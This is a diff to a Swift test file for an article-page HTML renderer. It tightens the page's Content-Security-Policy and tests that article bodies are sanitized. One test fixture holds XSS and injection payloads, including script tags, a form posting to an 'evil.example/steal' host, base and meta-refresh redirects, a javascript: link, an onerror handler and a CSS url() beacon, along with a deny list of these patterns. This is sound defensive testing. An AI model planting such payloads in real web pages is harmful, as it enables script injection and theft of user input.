@@ -43,7 +43,7 @@ import Testing
         #expect(html.contains(#"<meta name="viewport" content="width=device-width, initial-scale=1">"#))
         #expect(
             html.contains(
-                #"<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data: http: https:; style-src 'unsafe-inline'">"#
+                #"<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data: http: https:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'">"#
             ))
         #expect(html.contains("<title>Swift 网络层</title>"))
         #expect(html.contains("<h1 class=\"title\">Swift 网络层</h1>"))
@@ -144,16 +144,53 @@ import Testing
         #expect(!html.contains(link))
     }
 
-    @Test("the body goes in as given, once, inside the content block; the article's HTML by default")
+    @Test("by default the body is the article's HTML sanitized against its link, once, inside the content block")
     func body() {
-        let article = Self.post(html: "<p>正文一 <b>&amp;</b> <script>x()</script></p>")
-        let own = ArticlePage(article: article).html()
-        #expect(own.contains("<div class=\"content\">\n<p>正文一 <b>&amp;</b> <script>x()</script></p>\n</div>"))
+        let article = Self.post(html: "<p>正文一 <b>&amp;</b> <script>x()</script><img src=\"a.png\"></p>")
+        let own = ArticlePage(article: article)
+        let expected = "<p>正文一 <b>&amp;</b> <img src=\"http://www.cnblogs.com/lihua/p/a.png\"></p>"
+        #expect(own.bodyHTML == expected)
+        #expect(own.html().contains("<div class=\"content\">\n\(expected)\n</div>"))
+        #expect(own.html().components(separatedBy: "正文一").count == 2)
+    }
 
-        let replaced = ArticlePage(article: article, bodyHTML: "<p>cleaned</p>")
-        #expect(replaced.bodyHTML == "<p>cleaned</p>")
-        #expect(replaced.html().contains("<div class=\"content\">\n<p>cleaned</p>\n</div>"))
+    @Test("a body given to the page goes in as it is, unsanitized")
+    func givenBody() {
+        let article = Self.post(html: "<p>正文一</p>")
+        let replaced = ArticlePage(article: article, bodyHTML: "<p>cleaned <u onclick=\"trusted()\">u</u></p>")
+        #expect(replaced.bodyHTML == "<p>cleaned <u onclick=\"trusted()\">u</u></p>")
+        #expect(
+            replaced.html().contains("<div class=\"content\">\n<p>cleaned <u onclick=\"trusted()\">u</u></p>\n</div>"))
         #expect(!replaced.html().contains("正文一"))
+    }
+
+    @Test("a default page from a hostile body has no script, form, base, refresh, frame or handler")
+    func hostileBody() throws {
+        // Given an article whose HTML tries everything a page must not do.
+        let article = Self.post(
+            html: """
+                <p>text</p><script>alert(1)</script><form action="https://evil.example/steal"><input name="p"></form>
+                <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
+                <iframe src="https://evil.example/"></iframe><a href="javascript:alert(2)">a</a>
+                <img src="x.png" onerror="alert(3)"><svg><animate attributeName="href" to="javascript:alert(4)"/></svg>
+                <div style="position:fixed;background:url(https://evil.example/t.gif)">overlay</div>
+                """)
+
+        // When the page is made without a body of its own.
+        let html = ArticlePage(article: article).html()
+
+        // Then none of it is in the page, and the harmless parts are.
+        let content = try #require(html.range(of: "<div class=\"content\">"))
+        let body = String(html[content.lowerBound...])
+        for hostile in [
+            "<script", "alert(", "<form", "action=", "<input", "<base", "<meta", "refresh", "<iframe", "javascript:",
+            "onerror", "<svg", "<animate", "position:", "url(", "evil.example",
+        ] {
+            #expect(!body.contains(hostile), "the page's body holds \(hostile)")
+        }
+        #expect(body.contains("<p>text</p>"))
+        #expect(body.contains("<img src=\"http://www.cnblogs.com/lihua/p/x.png\">"))
+        #expect(body.contains("<div>overlay</div>"))
     }
 
     @Test(
